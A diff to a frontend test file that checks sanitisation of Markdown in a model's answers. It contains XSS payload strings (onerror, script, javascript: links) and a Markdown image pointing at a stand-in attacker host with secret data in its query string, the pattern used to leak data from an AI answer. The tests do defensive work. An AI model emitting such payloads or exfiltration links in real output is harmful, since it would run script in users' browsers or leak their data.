@@ -36,12 +36,26 @@ describe("an answer's Markdown", () => {
       'Hi <img src="x" onerror="window.pwned=1"> <script>window.pwned=2</script>\n\n<iframe src="javascript:window.pwned=3"></iframe>\n\n[click](javascript:window.pwned=4) $\\href{javascript:window.pwned=5}{x}$',
     );
     expect(root.querySelector("img, script, iframe")).toBeNull();
-    const link = root.querySelector("a")!;
-    expect(link.getAttribute("href") ?? "").not.toMatch(/javascript/i);
-    fireEvent.click(link);
+    expect(root.querySelector('a[href^="javascript" i]')).toBeNull();
+    fireEvent.click(screen.getByText("click"));
     await waitFor(() => expect(root.querySelector("[data-typeset]")).not.toBeNull());
     expect(root.querySelector('[data-typeset] a[href^="javascript"]')).toBeNull();
     expect(w.pwned).toBeUndefined();
+  });
+
+  it("loads no image a model's answer names, and keeps no link that is not to the web or mail", () => {
+    const root = md(
+      "Look ![secret notes](https://evil.example/p.png?d=secret) and [admin](/v1/feedback), [mail](mailto:a@b.example), [web](https://example.org/x)",
+    );
+    expect(root.querySelector("img")).toBeNull();
+    expect(document.head.querySelector('link[rel="preload"][as="image"]')).toBeNull();
+    const links = [...root.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href") ?? ""]);
+    expect(root.textContent).toContain("and admin,");
+    expect(links).toEqual([
+      ["secret notes", "https://evil.example/p.png?d=secret"],
+      ["mail", "mailto:a@b.example"],
+      ["web", "https://example.org/x"],
+    ]);
   });
 
   it("turns [n] into a citation button for the sources the answer had, and leaves other brackets as text", () => {
